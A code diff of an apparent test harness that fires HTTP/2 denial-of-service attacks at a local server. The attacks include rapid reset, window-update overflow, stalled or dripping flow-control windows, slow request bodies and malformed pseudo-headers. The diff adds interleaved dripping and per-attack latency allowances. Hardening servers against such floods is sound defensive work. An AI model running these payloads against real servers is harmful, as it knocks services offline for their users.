@@ -42,13 +42,14 @@ class Writer {
 }
 
 const SHUT = { settings: { INITIAL_WINDOW_SIZE: 0 } };
-/** A byte of each of a hundred bodies at a time. */
+/** Bytes of a hundred bodies. */
 const DRIPPING = {
   sends: (w) => many(100, (id) => w.post(id, { more: [['content-length', '9999']] })), drip: () => many(100, (id) => data(id, 'x')), connections: 4
 };
 const WIDE = { settings: { INITIAL_WINDOW_SIZE: 0x7fffffff } };
 
-/** What each connection sends at once; more than it takes to be ended, where it is ended. `drip`: sent again and again while it lives. */
+/** What each connection sends at once; more than it takes to be ended, where it is ended. `drip`: sent again and again while it lives, all of it or one
+ *  frame after the other. `beyond`: milliseconds that it may take of others beyond the double. */
 const attacks = {
   'rapid reset': { sends: (w) => many(400, (id) => [w.get(id, { path: '/never' }), rst(id)]) },
   'made to reset: window overflow': { sends: (w) => many(400, (id) => [w.get(id, { path: '/never' }), windowUpdate(id, 0x7fffffff)]) },
@@ -73,8 +74,8 @@ const attacks = {
   'windows that stay shut': { ...SHUT, sends: (w) => many(100, (id) => w.get(id, { path: '/large' })), connections: 4 },
   'windows that drip': { ...SHUT, sends: (w) => many(100, (id) => w.get(id, { path: '/large' })), drip: () => many(100, (id) => windowUpdate(id, 1)), every: 20, connections: 4 },
   'one that never reads': { ...WIDE, sends: (w) => [windowUpdate(0, 0x7fff0000), ...many(100, (id) => w.get(id, { path: '/large' }))], drip: () => ping(), every: 20, deaf: true, connections: 4 },
-  'bodies that drip': { ...DRIPPING, every: 1000 },
-  'bodies that drip in bursts': { ...DRIPPING, every: 50 },
+  'bodies that drip': { ...DRIPPING, inTurns: true, every: 3 },
+  'bodies that drip in bursts': { ...DRIPPING, every: 50, beyond: 4 },
   'identifiers run out': { sends: (w) => [w.get(0x7fffffff), w.get(1)] },
   'malformed pseudo fields': {
     sends: (w) => w.malformed([
@@ -90,7 +91,9 @@ const attacks = {
   }
 };
 
-export const NAMES = Object.keys(attacks);
+/** Of each by its name: what a scheduler may take between two of the hops, and the moment until it has been told from a conversation; more for four hundred
+ *  frames at a moment that are a write to an origin each. */
+export const BEYOND = Object.fromEntries(Object.entries(attacks).map(([name, { beyond = 1 }]) => [name, beyond]));
 
 /** One attack, until it is told to stop: as many connections at a time as it may have, a new one for each that ends. */
 class Attack {
@@ -98,13 +101,14 @@ class Attack {
     const what = attacks[name], w = new Writer(`${host}:${port}`);
     Object.assign(this, { what, port, host, running: true, made: 0, open: new Set() });
     this.first = Buffer.concat([MAGIC, settings(what.settings), frame(TYPE.SETTINGS, FLAG.ACK, 0), ...what.sends(w)]);
-    this.more = what.drip && Buffer.concat([what.drip(w)].flat());
+    const drip = [what.drip?.(w) ?? []].flat();
+    this.drops = what.inTurns ? drip : [Buffer.concat(drip)];
     for (let i = 0; i < Math.min(connections, what.connections ?? Infinity); i++) this.dial();
   }
   dial() {
     if (!this.running) return;
     const socket = tls.connect({ port: this.port, host: '127.0.0.1', servername: this.host, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
-    let timer;
+    let timer, turn = 0;
     this.open.add(socket);
     socket.on('error', () => {});
     socket.once('secureConnect', () => {
@@ -112,7 +116,7 @@ class Attack {
       socket.write(this.first);
       if (this.what.deaf) socket.pause();
       else socket.resume();
-      if (this.more) timer = setInterval(() => socket.write(this.more), this.what.every);
+      if (this.what.every) timer = setInterval(() => socket.write(this.drops[turn++ % this.drops.length]), this.what.every);
     });
     socket.on('end', () => socket.destroy());
     socket.once('close', () => {
